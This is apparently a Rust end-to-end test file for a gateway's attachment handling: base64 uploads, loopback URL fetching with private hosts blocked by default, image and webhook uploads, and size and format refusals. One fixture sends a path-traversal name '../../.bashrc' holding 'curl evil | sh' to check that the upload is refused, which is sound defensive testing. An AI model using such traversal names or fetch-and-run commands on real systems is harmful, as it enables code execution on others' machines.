//! Files sent with a run, end to end on the real binary with the echo engine
//! (which answers with the prompt it got, so the note naming the saved files
//! shows): a base64 PDF through `POST /v1/runs`, a URL served on loopback
//! (refused by default, fetched where `[gateway.files] allow_private_hosts`
//! says so), the refusals a sender sees, an image in an OpenAI chat request,
//! and a file sent to a webhook. Every run works in a project directory of
//! its own (`default_cwd`), where the files land under `.lemon/uploads/`.

use std::net::SocketAddr;
use std::path::Path;

use axum::http::header;
use axum::routing::get;
use base64::Engine as _;
use serde_json::{json, Value};

use crate::support::{Gateway, PATIENCE};

const PDF: &[u8] = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n";

/// A 1x1 PNG.
const PNG_BASE64: &str =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==";

const HOOK_TOKEN: &str = "files-e2e-hook-token-31c9";

fn base64_of(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// The echo engine answering at once, runs in `project`, and `extra`.
fn config(project: &Path, extra: &str) -> String {
    format!(
        "[gateway]\ndefault_cwd = {:?}\n[gateway.engines.echo]\ndelay_ms = 0\n{extra}",
        project.display().to_string()
    )
}

/// Submits `body` and waits for the run: the status and the answer's body.
async fn submit_and_wait(gateway: &Gateway, body: &Value) -> (u16, Value) {
    let response =
        gateway.post("/v1/runs?wait=true").json(body).timeout(PATIENCE).send().await.unwrap();
    (response.status().as_u16(), response.json().await.unwrap())
}

/// A file server on loopback answering `GET /files/report.pdf`.
async fn file_server() -> SocketAddr {
    let app = axum::Router::new().route(
        "/files/report.pdf",
        get(|| async { ([(header::CONTENT_TYPE, "application/pdf")], PDF) }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    addr
}

#[tokio::test]
async fn a_base64_pdf_lands_in_the_projects_uploads_with_its_path_in_the_prompt() {
    let project = tempfile::tempdir().unwrap();
    let files = "[gateway.files]\nmax_download_bytes = 2097152\n";
    let gateway = Gateway::start(&config(project.path(), files)).await;
    let uploads = project.path().join(".lemon/uploads");

    let body = json!({
        "prompt": "summarise the report",
        "attachments": [{ "name": "report.pdf", "mime": "application/pdf", "data": base64_of(PDF) }],
    });
    let (status, run) = submit_and_wait(&gateway, &body).await;
    assert_eq!(status, 200, "{run}");
    let answer = run["answer"].as_str().unwrap();
    assert!(
        answer.starts_with("summarise the report\n\n[Files sent with this message"),
        "{answer}"
    );
    assert!(answer.contains("\n- .lemon/uploads/report.pdf (file, application/pdf,"), "{answer}");
    assert_eq!(std::fs::read(uploads.join("report.pdf")).unwrap(), PDF);

    // Larger than the 1 MiB other requests may be: the route takes one file's worth.
    let blob = vec![0x5a; 1536 * 1024];
    let body = json!({
        "prompt": "keep this",
        "attachments": [{ "name": "blob.bin", "data": base64_of(&blob) }],
    });
    let (status, run) = submit_and_wait(&gateway, &body).await;
    assert_eq!(status, 200, "{}", run["error"]);
    assert_eq!(std::fs::read(uploads.join("blob.bin")).unwrap(), blob);

    // Refusals name the file, and nothing of the request is kept.
    let refused = [
        (
            json!({ "name": "../../.bashrc", "data": base64_of(b"curl evil | sh\n") }),
            400,
            "attachments[0] (../../.bashrc): the file name \"../../.bashrc\" is refused: it holds a directory",
        ),
        (
            json!({ "name": "big.bin", "data": base64_of(&vec![1; 2 * 1024 * 1024 + 1]) }),
            413,
            "attachments[0] (big.bin): big.bin is 2.0 MB — the limit is 2.0 MB",
        ),
        (
            json!({ "name": "notes.txt", "data": "this is not base64!" }),
            400,
            "attachments[0] (notes.txt): it is not base64",
        ),
    ];
    for (attachment, want_status, want_error) in refused {
        let body = json!({ "prompt": "look", "attachments": [attachment] });
        let response = gateway.post("/v1/runs").json(&body).send().await.unwrap();
        assert_eq!(response.status(), want_status);
        let error: Value = response.json().await.unwrap();
        let message = error["error"].as_str().unwrap();
        assert!(message.starts_with(want_error), "{message}");
    }
    // A body past the route's limit is answered 413 before it is read:
    // listeners_e2e sends one over raw TCP (a client still writing it here
    // could see the connection closed before it reads the answer).

    assert!(!gateway.home.join(".bashrc").exists());
    assert!(!project.path().parent().unwrap().join(".bashrc").exists());
    let mut saved: Vec<String> = std::fs::read_dir(&uploads)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    saved.sort();
    assert_eq!(saved, ["blob.bin", "report.pdf"]);
    let runs: Value = gateway.get("/v1/runs").send().await.unwrap().json().await.unwrap();
    assert_eq!(runs["runs"].as_array().unwrap().len(), 2, "only the accepted requests ran");
    let staged = std::fs::read_dir(gateway.home.join("media")).map_or(0, Iterator::count);
    assert_eq!(staged, 0, "nothing waits in the stage");
    gateway.terminate().await;
}

#[tokio::test]
async fn a_url_attachment_lands_only_where_private_hosts_are_allowed() {
    let server = file_server().await;
    let url = format!("http://{server}/files/report.pdf");
    let body = json!({ "prompt": "read it", "attachments": [{ "url": url }] });

    let project = tempfile::tempdir().unwrap();
    let gateway = Gateway::start(&config(project.path(), "")).await;
    let response = gateway.post("/v1/runs").json(&body).send().await.unwrap();
    assert_eq!(response.status(), 422);
    let error: Value = response.json().await.unwrap();
    assert_eq!(
        error["error"],
        "attachments[0]: the file could not be fetched: 127.0.0.1 is a private or loopback address (allow_private_hosts is off)"
    );
    assert!(!project.path().join(".lemon").exists());
    gateway.terminate().await;

    let allowed = config(project.path(), "[gateway.files]\nallow_private_hosts = true\n");
    let gateway = Gateway::start(&allowed).await;
    let (status, run) = submit_and_wait(&gateway, &body).await;
    assert_eq!(status, 200, "{run}");
    let answer = run["answer"].as_str().unwrap();
    assert!(answer.contains("\n- .lemon/uploads/report.pdf (file, application/pdf,"), "{answer}");
    let saved = project.path().join(".lemon/uploads/report.pdf");
    assert_eq!(std::fs::read(saved).unwrap(), PDF);
    gateway.terminate().await;
}

#[tokio::test]
async fn an_image_in_an_openai_chat_request_is_saved_and_named_in_the_runs_prompt() {
    let project = tempfile::tempdir().unwrap();
    let gateway = Gateway::start(&config(project.path(), "")).await;
    let body = json!({
        "model": "echo",
        "messages": [{ "role": "user", "content": [
            { "type": "text", "text": "what colour is this pixel?" },
            { "type": "image_url", "image_url": { "url": format!("data:image/png;base64,{PNG_BASE64}") } },
        ] }],
    });
    let response =
        gateway.post("/v1/chat/completions").json(&body).timeout(PATIENCE).send().await.unwrap();
    assert_eq!(response.status(), 200);
    let run_id = response.headers()["x-lemon-run-id"].to_str().unwrap().to_owned();
    let completion: Value = response.json().await.unwrap();
    let answer = completion["choices"][0]["message"]["content"].as_str().unwrap();
    assert!(answer.starts_with("what colour is this pixel?\n\n[Files sent"), "{answer}");
    assert!(answer.contains("\n- .lemon/uploads/attachment-1.png (image, image/png,"), "{answer}");
    let saved = std::fs::read(project.path().join(".lemon/uploads/attachment-1.png")).unwrap();
    assert_eq!(base64_of(&saved), PNG_BASE64);
    let run = gateway.run(&run_id).await;
    assert_eq!(run["meta"]["attachments"][0]["kind"], "image", "{run}");
    gateway.terminate().await;
}

#[tokio::test]
async fn a_file_sent_to_a_webhook_lands_in_the_project() {
    let project = tempfile::tempdir().unwrap();
    let text = format!(
        "[gateway]\ndefault_cwd = {:?}\nenable_webhook = true\n\
         [gateway.engines.echo]\ndelay_ms = 0\n\
         [gateway.webhook]\nport = 0\n\
         [gateway.webhook.files]\nmax_download_bytes = 65536\n\
         [gateway.webhook.integrations.make]\ntoken = \"{HOOK_TOKEN}\"\nmode = \"sync\"\n",
        project.path().display().to_string()
    );
    let gateway = Gateway::start(&text).await;
    // The shape of the Make.com template: `message`, `metadata`, `attachments`.
    let response = gateway
        .http
        .post(gateway.webhook_url("make"))
        .header("x-webhook-token", HOOK_TOKEN)
        .json(&json!({
            "message": "file the invoice",
            "metadata": { "scenario": 7 },
            "attachments": [{ "name": "invoice.pdf", "mime_type": "application/pdf", "data": base64_of(PDF) }],
        }))
        .timeout(PATIENCE)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let body: Value = response.json().await.unwrap();
    let answer = body["answer"].as_str().unwrap();
    assert!(
        answer.starts_with("file the invoice\n\nAttachments:\n- invoice.pdf\n\n[Files sent"),
        "{answer}"
    );
    assert!(answer.contains("\n- .lemon/uploads/invoice.pdf (file, application/pdf,"), "{answer}");
    assert_eq!(std::fs::read(project.path().join(".lemon/uploads/invoice.pdf")).unwrap(), PDF);
    let run = gateway.run(body["run_id"].as_str().unwrap()).await;
    let listed = run["meta"]["webhook"]["attachments"].to_string();
    assert!(!listed.contains(&base64_of(PDF)), "the content is not kept in the record: {listed}");
    gateway.terminate().await;
}

#[tokio::test]
async fn a_bad_files_section_stops_the_start_naming_the_key() {
    let home = crate::support::home_with("[gateway.files]\nmax_download_bytes = 0\n");
    let (code, stderr) = crate::support::failed_start(home.path()).await;
    assert_ne!(code, Some(0), "{stderr}");
    assert!(stderr.contains("config.toml:2:"), "names the line: {stderr}");
    assert!(stderr.contains("gateway.files.max_download_bytes"), "{stderr}");
    assert!(stderr.contains("must be more than 0"), "{stderr}");
}
